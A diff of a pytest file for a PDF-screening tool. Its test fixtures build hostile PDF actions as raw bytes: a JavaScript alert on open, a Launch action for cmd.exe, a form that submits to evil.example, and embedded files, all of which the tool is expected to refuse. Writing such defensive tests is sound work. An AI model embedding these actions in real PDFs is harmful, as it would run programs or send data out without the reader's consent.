@@ -90,13 +90,10 @@ def test_a_pdf_keeps_its_bytes_so_that_a_signature_stays_valid() -> None:
     assert take("a.pdf", PDF).content == PDF
 
 
-def active(**root: Any) -> bytes:
-    return a_pdf(**root)
-
-
-SCRIPT = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
-LAUNCH = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
-SEND = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example"))
+# Bytes, because an object of pikepdf belongs to the first file it is put into.
+SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
+LAUNCH = b"<< /S /Launch /F (cmd.exe) >>"
+SEND = b"<< /S /SubmitForm /F (https://evil.example) >>"
 
 
 @pytest.mark.parametrize(
@@ -104,15 +101,11 @@ SEND = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://e
     [
         {"OpenAction": SCRIPT},
         {"OpenAction": LAUNCH},
-        {"AA": pikepdf.Dictionary(WC=SCRIPT)},
-        {
-            "Names": pikepdf.Dictionary(
-                JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), SCRIPT]))
-            )
-        },
-        {"AcroForm": pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"))},
-        {"AcroForm": pikepdf.Dictionary(Fields=pikepdf.Array([pikepdf.Dictionary(A=SEND)]))},
-        {"Names": pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([])))},
+        {"AA": b"<< /WC " + SCRIPT + b" >>"},
+        {"Names": b"<< /JavaScript << /Names [(a) " + SCRIPT + b"] >> >>"},
+        {"AcroForm": b"<< /XFA (<xdp/>) >>"},
+        {"AcroForm": b"<< /Fields [<< /A " + SEND + b" >>] >>"},
+        {"Names": b"<< /EmbeddedFiles << /Names [] >> >>"},
     ],
     ids=["script", "program", "script on closing", "named script", "form of Adobe", "form that sends", "files inside"],
 )
@@ -123,7 +116,9 @@ def test_a_pdf_that_runs_sends_or_carries_something_is_refused(root: dict[str, A
 def test_a_script_hidden_in_an_annotation_or_packed_away_is_found() -> None:
     made, out = pikepdf.new(), io.BytesIO()
     page = made.add_blank_page()
-    page.Annots = pikepdf.Array([made.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, A=SCRIPT))])
+    page.Annots = pikepdf.Array(
+        [made.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, A=pikepdf.Object.parse(SCRIPT)))]
+    )
     made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
     assert b"JavaScript" not in out.getvalue()
     assert "Print it to a new PDF" in refusal("a.pdf", out.getvalue())
